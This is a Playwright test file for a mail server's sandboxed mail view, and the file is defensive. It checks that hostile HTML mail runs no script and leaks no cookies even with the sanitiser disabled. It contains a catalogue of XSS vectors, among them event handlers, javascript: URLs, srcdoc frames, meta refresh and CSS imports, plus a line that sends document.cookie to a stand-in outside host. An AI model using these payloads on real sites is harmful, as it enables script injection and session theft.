import assert from "node:assert/strict";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, test } from "node:test";
import { setTimeout as pause } from "node:timers/promises";
import type { Browser, Page } from "playwright-core";
import { attachmentLinks } from "../server/src/features/attachments/attachments.ts";
import { mailViewRoutes } from "../server/src/features/mail-view/mail-view.routes.ts";
import { openDatabase } from "../server/src/platform/db.ts";
import { openFetch } from "../server/src/platform/fetch.ts";
import { createHttp } from "../server/src/platform/http.ts";
import { newId } from "../server/src/platform/ids.ts";
import { createLog } from "../server/src/platform/log.ts";
import { openSecrets } from "../server/src/platform/secrets.ts";
import { type Desk, openDesk } from "../server/test/support/harness.ts";
import { foundHouse, type House } from "../server/test/support/people.ts";
import { openBrowser } from "./support/browser.ts";

// The first wall is taken away: the sanitiser lets everything through, and the frame alone has to hold (S-11).

let desk: Desk;
let house: House;
let browser: Browser;
let elsewhere: Server;
let stop: () => Promise<void>;
let base: string;
let away: string;
const asked: { url: string; cookie: string | undefined; referer: string | undefined }[] = [];
const png = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);

before(async () => {
  elsewhere = createServer((request, response) => {
    const { cookie, referer } = request.headers;
    asked.push({ url: request.url!, cookie, referer });
    if (request.url!.startsWith("/page")) response.end("<script>top.ran = 1</script>");
    else if (request.url!.startsWith("/fake")) response.end("<svg onload='x()'></svg>");
    else response.end(png);
  }).listen(0, "127.0.0.1");
  await new Promise((resolve) => elsewhere.once("listening", resolve));
  away = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  desk = await openDesk();
  house = await foundHouse(desk);
  const database = openDatabase({ url: desk.databaseUrl, clock: desk.clock, onError: () => {} });
  const http = createHttp({ log: createLog(() => {}), trustedProxies: [], hosts: null });
  const secrets = await openSecrets("/nowhere", "a secret for tests only, long enough to be taken");
  mailViewRoutes(http, {
    database,
    clock: desk.clock,
    secrets,
    links: attachmentLinks(secrets),
    admit: async () =>
      ({
        kind: "member",
        organisationId: house.organisationId,
        memberId: house.ana.memberId,
        name: "Ana",
        role: "administrator",
        inboxIds: "all",
      }) as never,
    // As hostile as it came; only what is asked for by our own address is put in by us.
    sanitise: (html) => html,
    pictures: openFetch({ trusted: [away.slice("http://".length)] }),
  });
  http.get<{ Querystring: { message: string; query?: string; bare?: string } }>("/desk", (request, reply) => {
    const { message, query = "", bare } = request.query;
    return reply
      .header("set-cookie", "desk=secret; Path=/")
      .type("text/html")
      .send(
        `<!doctype html><title>desk</title><iframe ${bare ? "" : 'sandbox=""'} src="/api/v1/messages/${message}/mail-page${query}" width="600" height="400"></iframe>`,
      );
  });
  base = await http.listen({ port: 0, host: "127.0.0.1" });
  stop = async () => {
    await http.close();
    await database.close();
  };
  browser = await openBrowser();
});

after(async () => {
  await browser?.close();
  await stop?.();
  await desk?.close();
  elsewhere?.closeAllConnections();
  elsewhere?.close();
});

async function mailOf(html: string): Promise<string> {
  const { conversation_id, message_id } = await house.okafor.writes(`Mail ${newId("msg")}`);
  await desk.owner.query(
    `insert into mail_copies (message_id, organisation_id, conversation_id, direction, html) values ($1, $2, $3, 'in', $4)`,
    [message_id, house.organisationId, conversation_id, html],
  );
  return message_id;
}

/** Shows the mail in the desk's frame, and says what came of it. */
async function shown(message: string, more: { query?: string; bare?: boolean } = {}) {
  asked.length = 0;
  const context = await browser.newContext({ viewport: { width: 900, height: 700 } });
  const page = await context.newPage();
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const query = new URLSearchParams({
    message,
    query: more.query ?? "",
    ...(more.bare ? { bare: "1" } : {}),
  });
  await page.goto(`${base}/desk?${query}`);
  await pause(1500);
  return { page, dialogs, asked: [...asked], close: () => context.close() };
}

const ran = (page: Page) => page.evaluate(() => (globalThis as { ran?: number }).ran ?? 0);
const act = `top.ran = 1; parent.ran = 1; document.title = 'ran'; new Image().src = '${"AWAY"}/x?' + document.cookie; alert('ran ' + document.cookie)`;
const hostile = () =>
  `<p id="words">Words</p>
  <script>${act}</script><script src="AWAY/page.js"></script>
  <img src="x" onerror="${act}"><body onload="${act}" background="AWAY/background">
  <svg onload="${act}"><script>${act}</script><image href="AWAY/svg"/><feImage href="AWAY/fe"/></svg>
  <details open ontoggle="${act}"><summary>d</summary></details><input autofocus onfocus="${act}">
  <math><mtext><style><img src=x onerror="${act}"></style></mtext></math>
  <meta http-equiv="refresh" content="0;url=AWAY/page?refresh"><base href="AWAY/">
  <link rel="stylesheet" href="AWAY/link.css"><link rel="prefetch" href="AWAY/prefetch"><link rel="preload" as="image" href="AWAY/preload">
  <style>@import "AWAY/import.css"; @font-face { font-family: f; src: url(AWAY/font) } #words { font-family: f; background: url(AWAY/css) }
    body { position: fixed; inset: -5000px; width: 10000px }</style>
  <img src="AWAY/picture.png" srcset="AWAY/srcset 2x"><picture><source srcset="AWAY/source"><img></picture>
  <video poster="AWAY/poster" src="AWAY/video" autoplay></video><audio src="AWAY/audio" autoplay></audio>
  <iframe src="AWAY/page?frame"></iframe><iframe srcdoc="<script>${act}</script>"></iframe><iframe src="javascript:${act}"></iframe>
  <object data="AWAY/page?object"></object><embed src="AWAY/page?embed">
  <form id="f" action="AWAY/page?form" method="post"><input name="a" value="b"><button id="send">Send</button></form>
  <a id="link" href="AWAY/page?link" target="_top">away</a><a id="code" href="javascript:${act}">code</a>`.replaceAll(
    "AWAY",
    away,
  );

for (const bare of [false, true]) {
  const frame = bare ? "even in a frame without its attribute" : "in the desk's frame";
  test(`with the sanitiser away a hostile mail runs nothing, fetches nothing and leads nowhere, ${frame}`, async () => {
    const { page, dialogs, asked: before, close } = await shown(await mailOf(hostile()), { bare });
    const mail = page.frames().find((each) => each.url().includes("/mail-page"))!;
    assert.equal(
      await mail.evaluate("document.querySelector('#words').textContent"),
      "Words",
      "the mail is shown",
    );
    for (const id of ["send", "link", "code"])
      await mail.evaluate(`document.getElementById('${id}').click()`);
    await pause(700);
    assert.equal(await ran(page), 0);
    assert.equal(await page.title(), "desk");
    assert.deepEqual(dialogs, []);
    assert.deepEqual([...before, ...asked], [], "nothing was asked of another host");
    assert.ok(page.url().startsWith(base), page.url());
    assert.equal(page.context().pages().length, 1);
    await close();
  });
}

test("the page has no origin of ours: the desk's cookie cannot be read in it", async () => {
  const { page, close } = await shown(await mailOf("<p>Words</p>"));
  assert.equal(await page.evaluate("document.cookie"), "desk=secret");
  const mail = page.frames().find((each) => each.url().includes("/mail-page"))!;
  assert.equal(await mail.evaluate("document.body.textContent.trim()"), "Words");
  // The debugger may ask where no script may run.
  assert.equal(await mail.evaluate("self.origin"), "null");
  await assert.rejects(mail.evaluate("document.cookie"), /sandboxed/);
  await close();
});

test("opened by its own address in a tab of its own, it runs nothing either", async () => {
  const message = await mailOf(hostile());
  asked.length = 0;
  const context = await browser.newContext();
  const page = await context.newPage();
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto(`${base}/api/v1/messages/${message}/mail-page`);
  await pause(1000);
  assert.deepEqual(dialogs, []);
  assert.notEqual(await page.title(), "ran");
  // In a tab of its own nothing keeps a page from leaving; what matters is that nothing of ours goes along.
  for (const each of asked) assert.equal(each.cookie ?? each.referer, undefined, each.url);
  await context.close();
});

test("asked for, a picture of elsewhere is fetched by us alone, and what is none is not shown", async () => {
  // As the sanitiser leaves it.
  const html = `<img id="one" data-remote="${away}/lamp.png"><img id="two" data-remote="${away}/fake.svg">`;
  const message = await mailOf(html);
  const quiet = await shown(message);
  assert.deepEqual(quiet.asked, []);
  await quiet.close();
  const { page, asked: fetched, close } = await shown(message, { query: "?pictures=1" });
  const mail = page.frames().find((each) => each.url().includes("/mail-page"))!;
  const widthOf = (id: string) => mail.evaluate(`document.querySelector('${id}').naturalWidth`);
  assert.equal(await widthOf("#one"), 1);
  assert.equal(await widthOf("#two"), 0);
  assert.ok(fetched.some((each) => each.url === "/lamp.png"));
  for (const each of fetched) assert.equal(each.cookie ?? each.referer, undefined);
  await close();
});
